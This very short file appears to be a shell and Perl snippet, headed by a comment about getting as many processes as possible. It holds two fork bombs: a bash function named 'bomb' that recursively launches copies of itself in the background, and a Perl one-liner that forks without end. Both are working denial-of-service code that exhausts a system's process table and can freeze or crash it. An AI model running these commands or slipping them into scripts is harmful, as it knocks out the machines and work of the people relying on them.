# As many processes as there are to be had.
bomb() { bomb & bomb & sleep 5; }
perl -e 'while (1) { my $pid = fork; select(undef, undef, undef, 0.01) unless defined $pid; }'
